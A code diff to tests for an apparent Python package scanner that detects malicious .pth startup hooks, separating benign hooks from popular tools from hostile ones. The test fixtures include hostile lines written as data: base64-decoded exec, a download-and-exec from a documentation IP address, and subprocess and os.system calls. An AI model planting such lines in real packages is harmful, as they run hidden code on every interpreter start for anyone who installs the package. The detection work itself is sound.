@@ -83,20 +83,57 @@ PTH = (
 def test_pth_executable_lines_are_reported() -> None:
     found = pth_findings([member("evil.pth", PTH.encode())], artifact="demo.whl",
                          roles={"evil.pth": FileRole.INSTALL_TIME})
-    assert found == (
-        Finding(type=AlertType.PTH_HOOK, severity=Severity.HIGH, file="evil.pth", line=3,
-                evidence="import os; os.environ.setdefault('X', '1')",
-                reason="This .pth line runs as Python code every time the interpreter starts.",
-                api="pth:import",
-                normalized="evil.pth:import os; os.environ.setdefault('…', '…')",
-                artifact="demo.whl"),
-        Finding(type=AlertType.PTH_HOOK, severity=Severity.CRITICAL, file="evil.pth", line=4,
-                evidence="import\tbase64, sys; exec(base64.b64decode('cHJpbnQoMSk='))",
-                reason="This .pth line runs as Python code every time the interpreter starts.",
-                api="pth:import",
-                normalized="evil.pth:import base64, sys; exec(base64.b64decode('…'))",
-                artifact="demo.whl"),
-    )
+    assert [(f.type, f.severity, f.line, f.api) for f in found] == [
+        (AlertType.PTH_HOOK, Severity.HIGH, 3, "pth:import"),
+        (AlertType.PTH_HOOK, Severity.HIGH, 4, "pth:import"),
+        (AlertType.PERSISTENCE, Severity.CRITICAL, 4, "pth:persistence"),
+        (AlertType.OBFUSCATED_EXEC, Severity.CRITICAL, 4, "builtins.exec"),
+    ]
+    assert found[0] == Finding(
+        type=AlertType.PTH_HOOK, severity=Severity.HIGH, file="evil.pth", line=3,
+        evidence="import os; os.environ.setdefault('X', '1')",
+        reason="This .pth line runs as Python code every time the interpreter starts.",
+        api="pth:import", normalized="evil.pth:import os; os.environ.setdefault('…', '…')",
+        artifact="demo.whl")
+    assert found[2].reason == (
+        "This .pth line (evil.pth:4) runs at every interpreter start and does more than set up "
+        "imports: Runs hidden code: exec of data decoded with base64.b64decode.")
+    assert found[2].normalized == "evil.pth:import base64, sys; exec(base64.b64decode('…'))"
+
+
+@pytest.mark.parametrize("line", [
+    # setuptools' distutils-precedence.pth
+    "import os; var = 'SETUPTOOLS_USE_DISTUTILS'; enabled = os.environ.get(var, 'local') == "
+    "'local'; enabled and __import__('_distutils_hack').add_shim(); ",
+    "import coverage; coverage.process_startup()",  # coverage's a1_coverage.pth
+    # pytest-cov's .pth: exec of a constant string that only imports and calls
+    "import os, sys;exec('if \\'COV_CORE_SOURCE\\' in os.environ:\\n try:\\n  from "
+    "pytest_cov.embed import init\\n  init()\\n except Exception as exc:\\n  "
+    "sys.stderr.write(str(exc))\\n')",
+    "import __editable___demo_1_0_finder; __editable___demo_1_0_finder.install()",
+    "import _virtualenv",
+])
+def test_pth_lines_of_popular_tools_are_only_hooks(line: str) -> None:
+    found = pth_findings([member("x.pth", (line + "\n").encode())], artifact="x.whl",
+                         roles={"x.pth": FileRole.INSTALL_TIME})
+    assert [f.type for f in found] == [AlertType.PTH_HOOK]
+
+
+@pytest.mark.parametrize(("line", "threat"), [
+    ("import subprocess; subprocess.Popen(['python', '/tmp/x.py'])", None),
+    ("import urllib.request as u; exec(u.urlopen('http://203.0.113.9/p').read())",
+     AlertType.DOWNLOAD_EXEC),
+    ("import os; exec('import os\\nos.system(\"id\")')", None),
+])
+def test_pth_lines_that_run_more_are_persistence(line: str, threat: AlertType | None) -> None:
+    found = pth_findings([member("x.pth", ("# c\n" + line + "\n").encode())],
+                         artifact="x.whl", roles={"x.pth": FileRole.INSTALL_TIME})
+    types = [f.type for f in found]
+    assert types[:2] == [AlertType.PTH_HOOK, AlertType.PERSISTENCE]
+    assert all(f.line == 2 for f in found)
+    if threat is not None:
+        assert threat in types
+        assert "x.pth:2" in found[-1].reason
 
 
 def test_pth_path_lines_and_inert_pth_files_are_fine() -> None:
